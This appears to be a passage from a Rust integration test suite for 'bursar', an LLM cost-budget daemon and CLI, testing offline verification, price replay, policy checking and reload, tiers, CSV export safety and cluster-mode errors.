    for record in &records[1..] {
        assert_eq!(record.len(), header.len(), "{record:?}");
        for (name, cell) in header.iter().zip(record) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name} = {cell:?} would run as a formula"
            );
            if numbers.contains(&name.as_str()) && !cell.is_empty() {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "{name} = {cell:?} is not a number"
                );
            }
        }
    }
}

#[test]
fn verify_and_offline_mode_agree_with_the_daemon() {
    let mut d = Daemon::start_with_config(TEAM_POLICY);
    record(&d, "a", "e-1");
    record(&d, "b", "e-2");
    d.cli_json(&strs(&reserve_args("r-1", "a")));
    let verify = d.cli_json(&["verify"]);
    assert_eq!(
        verify["events"], 5,
        "policy, 2 usage, 1 hold and its warning"
    );
    assert_eq!(verify["head"].as_str().unwrap().len(), 64);
    let human = d.cli(&["verify"]).ok().stdout;
    assert!(
        human.starts_with("ok: 5 events, hash chain intact"),
        "{human}"
    );

    // While the daemon runs, the data dir is locked: offline mode says so and touches nothing.
    let busy = d.offline(&["status"]);
    assert_eq!(busy.code, Some(1));
    assert_eq!(
        busy.stderr,
        format!(
            "bursar: the data dir {} is in use by a running bursard; use the socket instead, or \
             stop the daemon\n",
            d.data_dir.display()
        )
    );

    let online_export = d.cli(&["export"]).ok().stdout;
    let online_csv = d.cli(&["export", "--format", "csv"]).ok().stdout;
    let online_status = d.cli_json(&["status"]);
    let online_tail = d.cli(&["--json", "tail"]).ok().stdout;
    let online_policy = d.cli(&["policy", "show"]).ok().stdout;
    // Holds count in status; stopping the daemon does not release them.
    assert!(d.terminate().success());

    let offline_verify = d.offline(&["--json", "verify"]).ok().json();
    assert_eq!(offline_verify, verify);
    assert_eq!(d.offline(&["export"]).ok().stdout, online_export);
    assert_eq!(
        d.offline(&["export", "--format", "csv"]).ok().stdout,
        online_csv
    );
    assert_eq!(d.offline(&["--json", "tail"]).ok().stdout, online_tail);
    assert_eq!(d.offline(&["policy", "show"]).ok().stdout, online_policy);
    let offline_status = d.offline(&["--json", "status"]).ok().json();
    for key in ["team=a", "team=b"] {
        let (on, off) = (
            bucket(&online_status, "team-daily", key),
            bucket(&offline_status, "team-daily", key),
        );
        for field in ["spent_micros", "held_micros", "state", "window_end"] {
            assert_eq!(on[field], off[field], "{key} {field}");
        }
    }
    let table = d.offline(&["status"]).ok().stdout;
    assert!(table.contains("team=a"), "{table}");

    // Verbs that need the daemon say so; so does tail -f and replay --apply.
    for args in [
        vec!["record", "--model", "gpt-4o"],
        vec!["tail", "-f"],
        vec!["status", "--watch"],
    ] {
        let out = d.offline(&args);
        assert_eq!(out.code, Some(1), "{args:?}");
        assert_one_clean_error_line(&out.stderr);
    }
    let missing = bursar(&["--data-dir", "/nonexistent/bursar-data", "verify"]);
    assert_eq!(missing.code, Some(1));
    assert_eq!(
        missing.stderr,
        "bursar: no data dir at /nonexistent/bursar-data: No such file or directory\n"
    );
    let not_data = bursar(&["--data-dir", d.dir.path().to_str().unwrap(), "verify"]);
    assert_eq!(not_data.code, Some(1));
    assert!(
        not_data.stderr.contains("is not a bursar data dir"),
        "{}",
        not_data.stderr
    );
}

/// A policy file doubling gpt-4o's prices.
fn doubled_gpt4o(dir: &Path) -> PathBuf {
    let p = dir.join("new-prices.toml");
    std::fs::write(
        &p,
        "[pricing.models.\"gpt-4o\"]\ninput_per_mtok = 5.00\noutput_per_mtok = 20.00\n",
    )
    .unwrap();
    p
}

/// The same, as a LiteLLM price file.
fn doubled_gpt4o_litellm(dir: &Path) -> PathBuf {
    let p = dir.join("prices.json");
    std::fs::write(
        &p,
        r#"{"gpt-4o": {"litellm_provider": "openai", "mode": "chat",
             "input_cost_per_token": 0.000005, "output_cost_per_token": 0.00002,
             "max_output_tokens": 16384}}"#,
    )
    .unwrap();
    p
}

#[test]
fn replay_shows_the_delta_of_doubled_prices_from_a_time() {
    let mut d = Daemon::start_with_config(TEAM_POLICY);
    record(&d, "a", "e-1");
    let first = d.cli(&["--json", "tail"]).ok().json_lines();
    let e1_ts = first.last().unwrap()["ts"].as_i64().unwrap();
    // The new prices apply from just after e-1: e-2 and e-3 cost double.
    let since = bursar_core::time::format_ts(e1_ts + 1);
    record(&d, "a", "e-2");
    record(&d, "a", "e-3");
    let prices = doubled_gpt4o(d.dir.path());
    let prices = prices.to_str().unwrap();

    let dry = d.cli_json(&["replay", "--pricing", prices, "--since", &since]);
    assert_eq!(dry["total_delta_micros"], 2 * CALL_MICROS);
    assert_eq!(dry["applied"], false);
    let row = &dry["diff"][0];
    assert_eq!(row["budget"], "team-daily");
    assert_eq!(row["key"], "team=a");
    assert_eq!(row["before_micros"], 3 * CALL_MICROS);
    assert_eq!(row["after_micros"], 5 * CALL_MICROS);
    assert_eq!(row["delta_micros"], 2 * CALL_MICROS);
    assert_eq!(row["state_before"], "warn");
    assert_eq!(row["state_after"], "exhausted");

    let human = d
        .cli(&["replay", "--pricing", prices, "--since", &since])
        .ok()
        .stdout;
    let lines: Vec<&str> = human.lines().collect();
    assert!(
        lines[0].starts_with("BUDGET")
            && lines[0].contains("BEFORE")
            && lines[0].contains("AFTER")
            && lines[0].contains("DELTA")
            && lines[0].contains("STATE"),
        "{human}"
    );
    assert!(
        lines[1].contains("team-daily")
            && lines[1].contains("$0.0105")
            && lines[1].contains("$0.0175")
            && lines[1].contains("+$0.007")
            && lines[1].contains("warn -> exhausted"),
        "{human}"
    );
    assert!(
        human.contains(&format!("total delta since {since}: +$0.007")),
        "{human}"
    );
    assert!(human.contains("dry run"), "{human}");

    // A LiteLLM price file gives the same figures.
    let litellm = doubled_gpt4o_litellm(d.dir.path());
    let from_json = d.cli_json(&[
        "replay",
        "--pricing",
        litellm.to_str().unwrap(),
        "--since",
        &since,
    ]);
    assert_eq!(from_json["total_delta_micros"], 2 * CALL_MICROS);
    assert_eq!(from_json["diff"], dry["diff"]);

    // Offline, on the stopped daemon's data: the same dry run.
    assert!(d.terminate().success());
    let offline = d
        .offline(&["--json", "replay", "--pricing", prices, "--since", &since])
        .ok()
        .json();
    assert_eq!(offline["total_delta_micros"], dry["total_delta_micros"]);
    assert_eq!(offline["diff"], dry["diff"]);
    let refused = d.offline(&["replay", "--pricing", prices, "--apply"]);
    assert_eq!(refused.code, Some(1));
    assert_one_clean_error_line(&refused.stderr);

    // --apply: the live figures follow.
    d.spawn().unwrap();
    let applied = d.cli(&["replay", "--pricing", prices, "--since", &since, "--apply"]);
    let applied = applied.ok().stdout;
    assert!(
        applied.contains("applied: pricing_changed appended at seq"),
        "{applied}"
    );
    let status = d.cli_json(&["status"]);
    assert_eq!(status["budgets"][0]["spent_micros"], 5 * CALL_MICROS);
    assert_eq!(status["budgets"][0]["state"], "exhausted");

    // Bad pricing files: clear errors naming the file (and line and key when TOML).
    let bad = d.dir.path().join("bad.toml");
    std::fs::write(&bad, "[pricing.models.\"gpt-4o\"]\ninput_per_mtok = -1\n").unwrap();
    let out = d.cli(&["replay", "--pricing", bad.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr
            .contains("bad.toml:2: pricing.models.\"gpt-4o\".input_per_mtok"),
        "{}",
        out.stderr
    );
    let none = d.cli(&["replay", "--pricing", "/nonexistent/prices.toml"]);
    assert_eq!(none.code, Some(1));
    assert_one_clean_error_line(&none.stderr);
}

#[test]
fn policy_check_names_line_and_key() {
    let dir = tempfile::tempdir().unwrap();
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/bursar.toml");
    let good = bursar(&["policy", "check", example.to_str().unwrap()]).ok();
    assert!(good.stdout.contains(": ok (7 budgets: "), "{}", good.stdout);

    let bad = dir.path().join("bursar.toml");
    std::fs::write(
        &bad,
        "[[budget]]\nid = \"team\"\nmax_usd = 5\nwarn_at = 1.5\n\n[[budget]]\nid = \"x\"\nmax_usdd = 3\n",
    )
    .unwrap();
    let out = bursar(&["policy", "check", bad.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    let first = out.stderr.lines().next().unwrap();
    assert!(
        first.starts_with(&format!("bursar: {}:", bad.display())),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains(":8: budget[1].max_usdd: unknown key"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("panicked"));

    let invalid = dir.path().join("warn.toml");
    std::fs::write(
        &invalid,
        "[[budget]]\nid = \"team\"\nmax_usd = 5\nwarn_at = 1.5\n",
    )
    .unwrap();
    let out = bursar(&["policy", "check", invalid.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr
            .contains("warn.toml:4: budget[0].warn_at: must be greater than 0"),
        "{}",
        out.stderr
    );
    let json = bursar(&["--json", "policy", "check", invalid.to_str().unwrap()]);
    assert_eq!(json.code, Some(1));
    let v = json.json();
    assert_eq!(v["ok"], false);
    assert_eq!(v["errors"][0]["line"], 4);
    assert_eq!(v["errors"][0]["key"], "budget[0].warn_at");

    let missing = bursar(&["policy", "check", "/nonexistent/bursar.toml"]);
    assert_eq!(missing.code, Some(1));
    assert_eq!(
        missing.stderr,
        "bursar: cannot read /nonexistent/bursar.toml: No such file or directory\n"
    );
}

#[test]
fn policy_show_prints_the_policy_in_force_as_a_valid_file() {
    let example = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/bursar.toml"),
    )
    .unwrap();
    let d = Daemon::start_with_config(&example);
    // Push the policy_applied event far behind the head, past a single tail's reach.
    let mut c = d.client();
    for i in 0..300 {
        c.send(
            &json!({"op":"record","event_id":format!("bulk-{i}"),"labels":{"team":"t"},
                        "model":"gpt-4o-mini","usage":{"input_tokens":1}}),
        );
    }
    for _ in 0..300 {
        assert_eq!(c.recv()["ok"], true);
    }
    let shown = d.cli(&["policy", "show", "--prices"]).ok().stdout;
    assert!(
        shown.starts_with("# policy version 1, applied at "),
        "{shown}"
    );
    assert!(shown.contains("(seq 1)"), "{shown}");
    let file = d.dir.path().join("shown.toml");
    std::fs::write(&file, &shown).unwrap();
    let check = bursar(&["policy", "check", file.to_str().unwrap()]).ok();
    assert!(
        check
            .stdout
            .contains("ok (7 budgets: org-monthly, team-daily"),
        "{}",
        check.stdout
    );

    // The shown file, run by a daemon, is the same policy: it logs no new version on reload.
    let json = d.cli_json(&["policy", "show"]);
    assert_eq!(json["type"], "policy_applied");
    assert_eq!(json["body"]["policy_applied"]["policy_version"], 1);
    let d2 = Daemon::start_with_config(&shown);
    let p2 = d2.cli_json(&["policy", "show"]);
    assert_eq!(
        p2["body"]["policy_applied"]["policy"],
        json["body"]["policy_applied"]["policy"]
    );
}

#[test]
fn reload_reads_the_policy_file_again() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    let same = d.cli(&["reload"]).ok().stdout;
    assert_eq!(same, "policy version 1 in force (unchanged)\n");
    let config = d.config.clone().unwrap();
    std::fs::write(&config, TEAM_POLICY.replace("0.015", "0.02")).unwrap();
    let changed = d.cli(&["reload"]).ok().stdout;
    assert_eq!(changed, "policy version 2 in force (was 1)\n");
    record(&d, "a", "e-1");
    let status = d.cli_json(&["status"]);
    assert_eq!(status["budgets"][0]["limit_micros"], 20_000);
    let shown = d.cli(&["policy", "show"]).ok().stdout;
    assert!(shown.contains("max_usd = \"0.02\""), "{shown}");
    assert!(shown.starts_with("# policy version 2"), "{shown}");

    std::fs::write(&config, "[[budget]]\nid = \"BAD ID\"\n").unwrap();
    let bad = d.cli(&["reload"]);
    assert_eq!(bad.code, Some(1));
    assert!(
        bad.stderr.starts_with("bursar: bad_request: "),
        "{}",
        bad.stderr
    );
    assert!(bad.stderr.contains("budget[0].id"), "{}", bad.stderr);
    assert!(
        bad.stderr.contains(&format!(
            "invalid config: {}:2: budget[0].id",
            config.display()
        )),
        "one sentence, no stray separator: {}",
        bad.stderr
    );
    assert_one_clean_error_line(&bad.stderr);
    let kept = d.cli_json(&["status"]);
    assert_eq!(
        kept["budgets"][0]["limit_micros"], 20_000,
        "a bad file keeps the running policy"
    );
}

#[test]
fn pricing_import_prints_toml_the_policy_parser_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("litellm.json");
    std::fs::write(
        &json,
        r#"{
          "sample_spec": {"mode": "chat"},
          "acme-large": {"litellm_provider": "acme", "mode": "chat",
                          "input_cost_per_token": 0.0000025, "output_cost_per_token": 0.00001,
                          "max_output_tokens": 8192, "supports_function_calling": true},
          "acme-image": {"litellm_provider": "acme", "mode": "image_generation",
                          "output_cost_per_image": 0.04}
        }"#,
    )
    .unwrap();
    let out = bursar(&["pricing", "import", json.to_str().unwrap()]).ok();
    assert!(
        out.stdout.contains("[pricing.models.\"acme-large\"]"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("input_per_mtok = 2.5"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("output_per_mtok = 10.00")
            || out.stdout.contains("output_per_mtok = 10.0"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("acme-image"));
    assert!(out.stderr.contains("skipped"), "{}", out.stderr);
    let policy = dir.path().join("bursar.toml");
    std::fs::write(&policy, &out.stdout).unwrap();
    bursar(&["policy", "check", policy.to_str().unwrap()]).ok();

    let not_json = dir.path().join("x.json");
    std::fs::write(&not_json, "not json").unwrap();
    let bad = bursar(&["pricing", "import", not_json.to_str().unwrap()]);
    assert_eq!(bad.code, Some(1));
    assert_one_clean_error_line(&bad.stderr);
}

#[test]
fn user_mistakes_are_one_clear_line_never_a_panic() {
    // No daemon at all.
    let out = bursar(&["--socket", "/nonexistent/bursar.sock", "status"]);
    assert_eq!(out.code, Some(1));
    assert_eq!(
        out.stderr,
        "bursar: cannot connect to bursard at /nonexistent/bursar.sock: No such file or \
         directory (is the daemon running? start it with `bursard`)\n"
    );
    // A stale socket file nobody listens on.
    let dir = tempfile::tempdir().unwrap();
    let stale = dir.path().join("stale.sock");
    drop(std::os::unix::net::UnixListener::bind(&stale).unwrap());
    let out = bursar(&["--socket", stale.to_str().unwrap(), "verify"]);
    assert_eq!(out.code, Some(1));
    assert_one_clean_error_line(&out.stderr);
    assert!(out.stderr.contains("Connection refused"), "{}", out.stderr);

    let d = Daemon::start_with_config(TEAM_POLICY);
    // Bad flags are usage errors (exit 2).
    let out = d.cli(&["record", "--model", "gpt-4o", "--label", "no-equals-sign"]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    assert!(out.stderr.contains("expected KEY=VALUE"), "{}", out.stderr);
    let out = d.cli(&["record", "--model", "gpt-4o", "--input-tokens", "-5"]);
    assert_eq!(out.code, Some(2));
    let out = d.cli(&["export", "--format", "xml"]);
    assert_eq!(out.code, Some(2));
    // The daemon's refusals: one line naming code and field.
    let out = d.cli(&["record", "--model", "gpt-4o", "--label", "Team=x"]);
    assert_eq!(out.code, Some(1));
    assert_one_clean_error_line(&out.stderr);
    assert!(
        out.stderr.starts_with("bursar: bad_request: "),
        "{}",
        out.stderr
    );
    let out = d.cli(&[
        "extend",
        "--reservation-id",
        "r-x",
        "--ttl-seconds",
        "999999",
    ]);
    assert_eq!(out.code, Some(1));
    assert_one_clean_error_line(&out.stderr);
    // Reusing an event id for a different payload is a conflict.
    record(&d, "a", "e-1");
    let out = d.cli(&["record", "--model", "gpt-4o", "--event-id", "e-1"]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr.starts_with("bursar: conflict: "),
        "{}",
        out.stderr
    );
}

/// A policy with user-defined tiers: `frontier` (defined), `low` (built in, changed), `medium`
/// and `high` removed; gpt-4o ($2.50 input) sits in `low`, outside its range.
const TIERS_POLICY: &str = r##"
[tiers]
default = "premium"
patterns = [
  { match = "gpt-4o-mini*", tier = "low" },
  { match = "gpt-4o*", tier = "low" },
  { match = "my-*", tier = "frontier" },
]
remove = ["medium", "high"]
[tiers.defs.frontier]
display_name = "Frontier"
description = "Our best models"
price_range = [1, 5]
color = "#6a1b9a"
icon = "star"
[tiers.defs.low]
display_name = "Cheap"
[pricing.models."my-model"]
input_per_mtok = 2
output_per_mtok = 8

[[budget]]
id = "team-daily"
group_by = ["team"]
"##;

#[test]
fn tiers_lists_each_tier_with_its_metadata_and_its_models_with_their_prices() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("bursar.toml");
    std::fs::write(&file, TIERS_POLICY).unwrap();
    let config = file.to_str().unwrap();

    let v = bursar(&["--json", "tiers", "--config", config]).ok().json();
    assert_eq!(v["default"], "premium");
    let ids: Vec<&str> = v["tiers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["low", "premium", "frontier"], "{v}");
    let tier = |id: &str| {
        v["tiers"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["id"] == id)
            .unwrap()
            .clone()
    };
    let frontier = tier("frontier");
    assert_eq!(frontier["origin"], "defined");
    assert_eq!(frontier["display_name"], "Frontier");
    assert_eq!(frontier["description"], "Our best models");
    assert_eq!(
        frontier["price_range"],
        json!({"min_input_per_mtok": 1_000_000, "max_input_per_mtok": 5_000_000})
    );
    assert_eq!(frontier["color"], "#6a1b9a");
    assert_eq!(frontier["icon"], "star");
    assert_eq!(
        frontier["models"],
        json!([{"model": "my-model", "provider": "custom", "input_per_mtok": 2_000_000,
                "output_per_mtok": 8_000_000, "in_range": true}])
    );
    let low = tier("low");
    assert_eq!(low["origin"], "changed");
    assert_eq!(low["display_name"], "Cheap");
    let gpt4o = low["models"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["model"] == "gpt-4o")
        .unwrap();
    assert_eq!(gpt4o["input_per_mtok"], 2_500_000);
    assert_eq!(gpt4o["in_range"], false, "$2.50 is not low ($0–$0.50)");
    // The default tier holds the models no pattern matches.
    let premium = tier("premium");
    assert_eq!(premium["default"], true);
    assert!(
        premium["models"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m["model"] == "o1"),
        "{premium}"
    );

    let table = bursar(&["tiers", "--config", config]).ok().stdout;
    assert!(table.contains("default tier \"premium\""), "{table}");
    let frontier_row = table
        .lines()
        .find(|l| l.starts_with("frontier "))
        .unwrap_or_else(|| panic!("{table}"));
    for cell in [
        "Frontier",
        "$1.00–$5.00",
        "#6a1b9a",
        "star",
        "defined",
        "Our best models",
    ] {
        assert!(frontier_row.contains(cell), "{cell} in {frontier_row:?}");
    }
    assert!(table.contains("premium (default)"), "{table}");
    let gpt4o_row = table
        .lines()
        .find(|l| l.starts_with("gpt-4o "))
        .unwrap_or_else(|| panic!("{table}"));
    assert!(gpt4o_row.contains("$2.50"), "{gpt4o_row}");
    assert!(gpt4o_row.contains("outside $0.00–$0.50"), "{gpt4o_row}");

    // Without --config: the policy in force, from the daemon or (stopped) its data dir.
    let mut d = Daemon::start_with_config(TIERS_POLICY);
    let live = d.cli_json(&["tiers"]);
    assert_eq!(live["tiers"], v["tiers"]);
    d.terminate();
    let offline = d.offline(&["--json", "tiers"]).ok().json();
    assert_eq!(offline["tiers"], v["tiers"]);

    let missing = bursar(&["tiers", "--config", "/nonexistent/bursar.toml"]);
    assert_eq!(missing.code, Some(1));
    assert_one_clean_error_line(&missing.stderr);
}

#[test]
fn policy_check_warns_about_models_outside_their_tiers_range_and_refuses_undefined_tiers() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("bursar.toml");
    std::fs::write(&file, TIERS_POLICY).unwrap();
    let path = file.to_str().unwrap();
    let out = bursar(&["policy", "check", path]).ok();
    let n = out.stderr.lines().count();
    assert!(
        out.stdout.ends_with(&format!("), {n} warnings\n")),
        "{}",
        out.stdout
    );
    let warning = out
        .stderr
        .lines()
        .find(|l| l.contains("\"gpt-4o\""))
        .unwrap_or_else(|| panic!("{}", out.stderr));
    assert_eq!(
        warning,
        format!(
            "bursar: warning: {path}: tiers.patterns[1]: model \"gpt-4o\" costs $2.50 per million \
             input tokens, outside the price_range $0.00..$0.50 of its tier \"low\""
        )
    );
    assert!(!out.stderr.contains("\"my-model\""), "{}", out.stderr);
    let v = bursar(&["--json", "policy", "check", path]).ok().json();
    assert_eq!(v["ok"], true);
    assert_eq!(v["tiers"], json!(["low", "premium", "frontier"]));
    let warnings = v["warnings"].as_array().unwrap();
    assert!(
        warnings.iter().any(|w| w["key"] == "tiers.patterns[1]"
            && w["message"].as_str().unwrap().contains("\"gpt-4o\"")),
        "{v}"
    );

    // With [tiers.defs], a pattern naming a tier nobody defined is an error naming the key.
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        TIERS_POLICY.replace("tier = \"frontier\"", "tier = \"fronteir\""),
    )
    .unwrap();
    let out = bursar(&["policy", "check", bad.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr
            .contains(":7: tiers.patterns[2].tier: no tier named \"fronteir\""),
        "{}",
        out.stderr
    );

    // Without [tiers.defs], tier names work as before; check warns that they are undefined.
    let legacy = dir.path().join("legacy.toml");
    std::fs::write(
        &legacy,
        "[tiers]\ndefault = \"small\"\npatterns = [ { match = \"gpt-4o*\", tier = \"frontier\" } ]\n",
    )
    .unwrap();
    let out = bursar(&["policy", "check", legacy.to_str().unwrap()]).ok();
    assert!(
        out.stderr.contains(
            "tiers.patterns[0].tier: tier \"frontier\" is not defined (it has no display name, \
             description or price range); define it as [tiers.defs.frontier]"
        ),
        "{}",
        out.stderr
    );
    assert!(out
        .stderr
        .contains("tiers.default: tier \"small\" is not defined"));
}

#[test]
fn status_json_carries_the_tiers_of_the_policy_in_force() {
    let d = Daemon::start_with_config(TIERS_POLICY);
    let status = d.cli_json(&["status"]);
    let tiers = status["tiers"].as_array().unwrap();
    let ids: Vec<&str> = tiers.iter().map(|t| t["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["low", "premium", "frontier"], "{status}");
    assert_eq!(
        tiers[2],
        json!({"id": "frontier", "origin": "defined", "display_name": "Frontier",
               "description": "Our best models",
               "price_range": {"min_input_per_mtok": 1_000_000, "max_input_per_mtok": 5_000_000},
               "color": "#6a1b9a", "icon": "star"})
    );
    assert_eq!(tiers[1]["origin"], "builtin");
    assert_eq!(tiers[1]["display_name"], "Premium");
    // The default policy has the built-in tiers and the tier `default`.
    let plain = Daemon::start();
    let ids: Vec<Value> = plain.cli_json(&["status"])["tiers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].clone())
        .collect();
    assert_eq!(ids, ["low", "medium", "high", "premium", "default"]);
}

#[test]
fn policy_check_refuses_budgets_spanning_partitions_in_cluster_mode_and_a_node_without_nats_says_so_and_writes_nothing(
) {
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let cluster = format!("[cluster]\nnats = [\"nats://127.0.0.1:{port}\"]\nnode = \"a\"\npartition_by = \"org\"\npartitions = 2\n");
    let spanning = dir.path().join("spanning.toml");
    std::fs::write(
        &spanning,
        format!("{cluster}\n[[budget]]\nid = \"everyone\"\nmax_usd = 100\n"),
    )
    .unwrap();
    let out = bursar(&["policy", "check", spanning.to_str().unwrap()]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(
        out.stderr
            .contains(":7: budget[0]: in cluster mode every budget must lie within one partition"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("pin `org`"), "{}", out.stderr);

    let good = dir.path().join("good.toml");
    std::fs::write(
        &good,
        format!("{cluster}\n[[budget]]\nid = \"per-org\"\ngroup_by = [\"org\"]\nmax_usd = 100\n"),
    )
    .unwrap();
    let out = bursar(&["policy", "check", good.to_str().unwrap()]).ok();
    assert!(out.stdout.contains(": ok ("), "{}", out.stdout);
    // A node whose NATS cannot be reached (nothing listens on the port) says so in one line,
    // and writes nothing: it never runs as an island.
    let data = dir.path().join("data");
    let run = std::process::Command::new(bin("bursard"))
        .arg("--config")
        .arg(&good)
        .arg("--data-dir")
        .arg(&data)
        .arg("--socket")
        .arg(dir.path().join("s.sock"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(err.contains("cluster: cannot reach NATS"), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(!data.exists(), "a refused daemon created its data dir");
}
